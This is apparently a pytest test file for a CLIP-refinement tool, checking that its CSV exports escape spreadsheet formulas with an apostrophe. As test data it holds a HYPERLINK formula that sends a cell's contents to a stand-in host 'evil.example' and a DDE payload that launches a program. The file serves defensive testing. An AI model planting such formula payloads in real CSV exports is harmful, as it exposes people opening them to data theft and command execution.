"""The one CSV writer (issue 24 item 5, issue 26 item 8): cells a spreadsheet would run as formulas
are escaped, everywhere a CSV leaves the project - the per-image predictions of ``refineclip refine
--csv``, the run report's embedded per-image table, and the dashboard tables' "Download as CSV"
(Streamlit's own table download, which writes names as they are, is switched off)."""

from __future__ import annotations

import csv
import io
import json
import re
import tomllib
from pathlib import Path
from urllib.parse import unquote

import numpy as np
import pandas as pd
from hypothesis import given, strategies as st

from refineclip_core.cli import main
from refineclip_core.features.cache import FeatureCache
from refineclip_core.reporting.tables import FORMULA_LEAD, csv_text, frame_csv, safe_cell
from tests.conftest import make_image

ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
GROUP = "+cmd|' /C calc'!A0"


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_formula_leading_text_gets_an_apostrophe_and_nothing_else_changes():
    cells = [FORMULA, "-2+3", "@SUM(A1)", "\tx", "\rx", "+1", "plain", "a=b", "", "'quoted"]
    rows = _parse(csv_text([cells], [f"c{i}" for i in range(len(cells))]))
    got = rows[1]
    for raw, out in zip(cells, got):
        expected = "'" + raw if raw[:1] in {"=", "+", "-", "@", "\t", "\r"} else raw
        assert out == expected, (raw, out)
    assert not any(c.startswith(("=", "+", "-", "@")) for c in got)
    # numbers stay numbers (a negative number is not text), booleans read yes/no, None is empty
    assert _parse(csv_text([[-3, 2.5, True, None]], ["a", "b", "c", "d"]))[1] == ["-3", "2.5", "yes", ""]
    assert safe_cell(float("nan")) == "nan"


@given(st.text(max_size=20))
def test_every_text_cell_reads_back_as_written_or_apostrophe_escaped(text):
    back = _parse(csv_text([[text]], ["x"]))[1][0]
    expected = "'" + text if text.startswith(FORMULA_LEAD) else text
    # csv.reader reads a lone \r inside a quoted cell back as written
    assert back == expected


def test_a_dataframe_with_a_formula_label_and_index_is_escaped():
    df = pd.DataFrame({"accuracy": [0.5, 1.0]}, index=pd.Index([FORMULA, "dog"], name="class"))
    rows = _parse(frame_csv(df))
    assert rows[0] == ["class", "accuracy"]
    assert rows[1] == ["'" + FORMULA, "0.5"] and rows[2] == ["dog", "1.0"]


def test_the_dashboard_offers_only_its_own_escaped_table_downloads():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
    assert 'st.set_option("client.disableDataExport", True)' in (ROOT / "app.py").read_text()
    # every table of every page goes through widgets.table (its CSV button uses frame_csv)
    offenders = [str(p.relative_to(ROOT)) for d in ("pages", "dashboard") for p in (ROOT / d).glob("*.py")
                 if ".dataframe(" in p.read_text() and p.name != "widgets.py"]
    assert not offenders, f"tables shown without the escaped CSV download: {offenders}"
    widgets = (ROOT / "dashboard" / "widgets.py").read_text()
    assert widgets.count("    st.dataframe(") == 1 and "frame_csv(data)" in widgets


def _formula_folder(root: Path) -> Path:
    """Two classes, one named as a spreadsheet formula, one group a DDE payload; 8 images each."""
    root.mkdir(parents=True)
    rng = np.random.default_rng(5)
    rows = []
    for c, (label, colour) in enumerate(((FORMULA, (200, 40, 40)), ("dog", (40, 40, 200)))):
        for i in range(8):
            name = f"img{c}_{i}.png"
            make_image(rng, colour).save(root / name)
            rows.append([name, label, GROUP if i % 2 else "plain"])
    with open(root / "metadata.csv", "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["path", "label", "group"])
        w.writerows(rows)
    return root


def test_refine_csv_and_the_html_report_hold_the_same_escaped_per_image_rows(tiny_model_files, tmp_path, capsys):
    data = _formula_folder(tmp_path / "data")
    flags = ["--model", tiny_model_files["name"], "--model-config", tiny_model_files["config"],
             "--checkpoint", tiny_model_files["checkpoint"]]
    assert main([*map(str, ["extract", *flags, "--data", data, "--out", tmp_path / "cache", "--layers", "all"])]) == 0
    out_csv, out_html, out_json = tmp_path / "p.csv", tmp_path / "r.html", tmp_path / "r.json"
    rc = main([*map(str, ["refine", "--cache", tmp_path / "cache", "--samples-per-class", "3", "--top-t", "4",
                          "--fit-steps", "5", "--steps", "5", "--no-baselines", "--no-diagnosis",
                          "--csv", out_csv, "--html", out_html, "--json", out_json])])
    assert rc == 0 and f"wrote per-image predictions (CSV): {out_csv}" in capsys.readouterr().out
    rows = _parse(out_csv.read_bytes().decode())
    header, body = rows[0], rows[1:]
    assert header == ["file", "true class", "group", "zero-shot prediction", "edited prediction", "zero-shot correct",
                      "edited correct", "held out", "role"]
    cache = FeatureCache(tmp_path / "cache")
    assert len(body) == len(cache) == 16
    col = {name: i for i, name in enumerate(header)}
    assert {r[col["true class"]] for r in body} == {"'" + FORMULA, "dog"}
    assert {r[col["group"]] for r in body} == {"'" + GROUP, "plain"}
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    # independently: zero-shot predictions are argmax of the cached embeddings against the class texts
    classes = ["'" + FORMULA if c == FORMULA else c for c in cache.classes]
    zs = (cache.embeddings @ cache.text.T).argmax(1)
    by_file = {r[col["file"]]: r for r in body}
    for rec, p in zip(cache.records, zs):
        row = by_file[Path(rec.path).name]
        assert row[col["zero-shot prediction"]] == classes[p]
        assert row[col["true class"]] == classes[rec.label]
        assert row[col["zero-shot correct"]] == ("yes" if p == rec.label else "no")
    # the held-out rows are the report's evaluation rows; their accuracies match the report's
    report = json.loads(out_json.read_text())
    held = [r for r in body if r[col["held out"]] == "yes"]
    assert len(held) == report["n_eval"] and {r[col["role"]] for r in held} == {"held-out"}
    overall = report["methods"]["reports"]
    for method, column in (("zero-shot", "zero-shot correct"), (report["exported"], "edited correct")):
        acc = sum(r[col[column]] == "yes" for r in held) / len(held)
        assert abs(acc - overall[method]["accuracy"]) < 1e-9, method
    # the HTML report embeds the same CSV as a data: link
    page = out_html.read_text()
    link = re.search(r"href='data:text/csv;charset=utf-8,([^']*)'", page)
    assert link and unquote(link.group(1)) == out_csv.read_bytes().decode()
